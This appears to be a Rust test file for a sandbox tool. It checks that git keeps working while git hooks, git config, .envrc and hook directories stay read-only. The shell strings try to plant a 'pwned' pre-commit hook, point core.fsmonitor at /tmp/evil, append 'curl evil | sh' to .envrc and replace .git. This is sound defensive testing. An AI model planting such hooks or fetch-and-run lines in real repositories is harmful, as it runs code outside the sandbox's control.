//! `[filesystem] protect` through `agentbox run`: git keeps working under the default profile,
//! and protected files that would run code outside the sandbox later (git hooks, git config,
//! `.envrc`) stay readable but cannot be planted or changed. Where init gets a mount namespace
//! (root, or any user allowed a user namespace: both users here), protect matches are read-only
//! bind mounts: writes fail with EROFS and renames with EBUSY. As root the eBPF observer turns
//! those failures into `mounts` denials in the audit log; the Launch record names the mounts.

use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;

use agentbox_tests::{is_root, RunAs, RunResult, Scenario, NOBODY};

const GIT_IDENTITY: [(&str, &str); 4] = [
    ("GIT_AUTHOR_NAME", "agent"),
    ("GIT_AUTHOR_EMAIL", "agent@example.invalid"),
    ("GIT_COMMITTER_NAME", "agent"),
    ("GIT_COMMITTER_EMAIL", "agent@example.invalid"),
];

/// Runs git in `dir` outside the sandbox, as the scenario's user (git refuses a repository
/// owned by someone else), with the scenario's HOME and no user config.
fn git(s: &Scenario, dir: &Path, args: &[&str]) -> String {
    let mut cmd = Command::new("git");
    cmd.args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", &s.home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .envs(GIT_IDENTITY);
    if s.run_as == RunAs::Nobody {
        cmd.uid(NOBODY).gid(NOBODY);
    }
    let out = cmd.output().expect("run git");
    assert!(out.status.success(), "git {args:?}: {out:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A workspace that is a git repository with one commit.
fn repository(run_as: RunAs) -> Scenario {
    let mut s = Scenario::new(run_as);
    s.env.extend(
        GIT_IDENTITY
            .iter()
            .map(|(k, v)| (k.into(), v.into()))
            .chain([("GIT_CONFIG_NOSYSTEM".into(), "1".into())]),
    );
    let ws = s.workspace.clone();
    git(&s, &ws, &["init", "-q", "-b", "main", "."]);
    s.plant_in_workspace("src/lib.py", "x = 1\n");
    git(&s, &ws, &["add", "src/lib.py"]);
    git(&s, &ws, &["commit", "-q", "-m", "first"]);
    s
}

/// The Launch event's state of the deny/protect guarantee, as JSON text.
fn protect_guarantee(r: &RunResult) -> String {
    let launch = r.record("launch").expect("launch record");
    launch["guarantees"]
        .as_array()
        .expect("guarantees")
        .iter()
        .find(|g| g.to_string().contains("mounts"))
        .map(|g| g.to_string())
        .unwrap_or_default()
}

#[test]
fn protect_git_status_add_commit_work_under_the_default_profile() {
    for run_as in RunAs::all() {
        let s = repository(run_as);
        s.plant_in_workspace("src/lib.py", "x = 2\n");
        let r = s.run(
            &["-q"],
            &[
                "sh",
                "-c",
                "set -e; git status --short; echo y = 1 > src/new.py; git add -A; \
                 git commit -q -m 'from the sandbox'; git log --oneline | wc -l",
            ],
        );
        assert_eq!(r.code(), Some(0), "{run_as:?}: {}", r.dump());
        assert!(r.stdout.contains(" M src/lib.py"), "{}", r.dump());
        assert_eq!(r.stdout.lines().last(), Some("2"), "{}", r.dump());
        // The commit is real: objects, index and refs were written.
        let log = git(&s, &s.workspace, &["log", "--format=%s"]);
        assert_eq!(log.lines().next(), Some("from the sandbox"), "{run_as:?}");
        let status = git(&s, &s.workspace, &["status", "--porcelain"]);
        assert_eq!(status, "", "{run_as:?}: everything committed");
    }
}

#[test]
fn protect_planting_a_git_hook_or_changing_git_config_is_denied_under_the_default_profile() {
    for run_as in RunAs::all() {
        let s = repository(run_as);
        let config_before = std::fs::read_to_string(s.workspace.join(".git/config")).unwrap();
        let r = s.run(
            &["-q"],
            &[
                "sh",
                "-c",
                "cat .git/config >/dev/null && echo config-readable; \
                 ls .git/hooks >/dev/null && echo hooks-listable; \
                 printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && echo hook-planted; \
                 echo '[core] fsmonitor = /tmp/evil' >> .git/config && echo config-appended; \
                 git config core.fsmonitor /tmp/evil && echo config-set; \
                 mv .git/hooks .git/h2 && echo hooks-moved; \
                 mv .git/config .git/c2 && echo config-moved; \
                 rm -f .git/config && echo config-removed; \
                 echo x > .git/scratch && rm .git/scratch && echo git-dir-writable; \
                 true",
            ],
        );
        assert_eq!(r.code(), Some(0), "{run_as:?}: {}", r.dump());
        for expected in ["config-readable", "hooks-listable", "git-dir-writable"] {
            assert!(
                r.stdout.contains(expected),
                "{run_as:?} {expected}: {}",
                r.dump()
            );
        }
        for planted in [
            "hook-planted",
            "config-appended",
            "config-set",
            "hooks-moved",
            "config-moved",
            "config-removed",
        ] {
            assert!(
                !r.stdout.contains(planted),
                "{run_as:?} {planted}: {}",
                r.dump()
            );
        }
        // The kernel's answers: read-only mounts, busy mount points.
        assert!(
            r.stderr.contains("Read-only file system"),
            "{run_as:?}: {}",
            r.dump()
        );
        assert!(
            r.stderr.contains("Device or resource busy"),
            "{run_as:?}: {}",
            r.dump()
        );
        // Outside the sandbox afterwards: no hook, the config unchanged, nothing mounted here.
        assert!(!s.workspace.join(".git/hooks/pre-commit").exists());
        assert!(s.workspace.join(".git/hooks").is_dir());
        let config_after = std::fs::read_to_string(s.workspace.join(".git/config")).unwrap();
        assert_eq!(config_after, config_before, "{run_as:?}");
        let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
        assert!(
            !mountinfo.contains(s.workspace.to_str().unwrap()),
            "a sandbox mount leaked to the host: {mountinfo}"
        );
        // As root the observer logs the refusals, each with its path.
        if is_root() && matches!(run_as, RunAs::Current) {
            let mounts = r.denials_of("mounts");
            let paths: Vec<&str> = mounts
                .iter()
                .filter_map(|d| d["object"]["path"].as_str())
                .collect();
            assert!(
                paths.iter().any(|p| p.ends_with(".git/hooks/pre-commit")),
                "{run_as:?}: no mounts denial for the hook: {}",
                r.dump()
            );
            assert!(
                paths.iter().any(|p| p.ends_with(".git/config")),
                "{run_as:?}: no mounts denial for .git/config: {}",
                r.dump()
            );
            assert!(mounts
                .iter()
                .all(|d| d["rule"] == "filesystem.protect: read-only bind mount"));
        }
        // The audit log says how protect globs were enforced.
        let state = protect_guarantee(&r);
        assert!(
            state.contains("read-only bind mounts"),
            "{run_as:?}: launch guarantees: {}",
            r.dump()
        );
    }
}

#[test]
fn protect_existing_envrc_is_read_only_under_the_default_profile() {
    for run_as in RunAs::all() {
        let s = Scenario::new(run_as);
        let envrc = s.plant_in_workspace("proj/.envrc", "export A=1\n");
        let r = s.run(
            &["-q"],
            &[
                "sh",
                "-c",
                "cat proj/.envrc; echo 'curl evil | sh' >> proj/.envrc && echo appended; \
                 rm -f proj/.envrc && echo removed; touch proj/new && echo dir-writable; true",
            ],
        );
        assert_eq!(r.code(), Some(0), "{run_as:?}: {}", r.dump());
        assert!(r.stdout.contains("export A=1"), "{}", r.dump());
        assert!(!r.stdout.contains("appended"), "{}", r.dump());
        assert!(!r.stdout.contains("removed"), "{}", r.dump());
        // The directory holding a protected file keeps its create rights.
        assert!(r.stdout.contains("dir-writable"), "{}", r.dump());
        assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "export A=1\n");
    }
}

/// Replacing what protect covers instead of writing it: renaming `.git` (or the repository)
/// and building a new one with a hook, retargeting `core.hooksPath`, editing the hook
/// directory or a program the config already names. All refused while normal git work
/// (branch, checkout, merge, stash, rebase) still works.
#[test]
fn protect_holds_against_replacing_the_git_directory_and_the_programs_its_config_names() {
    for run_as in RunAs::all() {
        let s = repository(run_as);
        let ws = s.workspace.clone();
        s.plant_in_workspace(".husky/pre-commit", "#!/bin/sh\nexit 0\n");
        s.plant_in_workspace("tools/watch", "#!/bin/sh\n");
        git(&s, &ws, &["config", "core.hooksPath", ".husky"]);
        git(&s, &ws, &["config", "core.fsmonitor", "tools/watch"]);
        git(&s, &ws, &["config", "core.fsmonitor", "false"]);
        git(&s, &ws, &["config", "alias.fmt", "!tools/watch --fmt"]);
        s.plant_in_workspace("sub/.vscode/tasks.json", "{}\n");
        s.fix_ownership();
        let r = s.run(
            &["-q"],
            &[
                "sh",
                "-c",
                "mv .git .git-old && echo git-dir-moved; \
                 mkdir -p ../ws2 2>/dev/null; mv \"$PWD\" ../ws2 && echo repo-moved; \
                 echo evil > .husky/pre-commit && echo husky-edited; \
                 mv .husky .husky-old && echo husky-moved; \
                 echo evil > tools/watch && echo alias-program-edited; \
                 mv sub/.vscode sub/.vscode-old && echo vscode-moved; \
                 mv sub sub-old && echo sub-moved; \
                 set -e; git checkout -q -b topic; echo 2 > src/lib.py; git commit -qam two; \
                 git checkout -q main; git merge -q --no-edit topic; \
                 echo 3 > src/lib.py; git stash -q; git stash pop -q; git commit -qam three; \
                 git checkout -q topic; echo t > t.txt; git add t.txt; git commit -qm t; \
                 git rebase -q main; echo git-work-done",
            ],
        );
        assert_eq!(r.code(), Some(0), "{run_as:?}: {}", r.dump());
        assert!(
            r.stdout.contains("git-work-done"),
            "{run_as:?}: {}",
            r.dump()
        );
        for replaced in [
            "git-dir-moved",
            "repo-moved",
            "husky-edited",
            "husky-moved",
            "alias-program-edited",
            "vscode-moved",
            "sub-moved",
        ] {
            assert!(
                !r.stdout.contains(replaced),
                "{run_as:?} {replaced}: {}",
                r.dump()
            );
        }
        assert!(ws.join(".git/HEAD").is_file());
        assert_eq!(
            std::fs::read_to_string(ws.join(".husky/pre-commit")).unwrap(),
            "#!/bin/sh\nexit 0\n"
        );
        assert_eq!(
            std::fs::read_to_string(ws.join("tools/watch")).unwrap(),
            "#!/bin/sh\n"
        );
        assert!(ws.join("sub/.vscode/tasks.json").is_file());
        let log = git(&s, &ws, &["log", "--format=%s", "topic"]);
        assert_eq!(log.lines().next(), Some("t"), "{run_as:?}: {log}");
    }
}
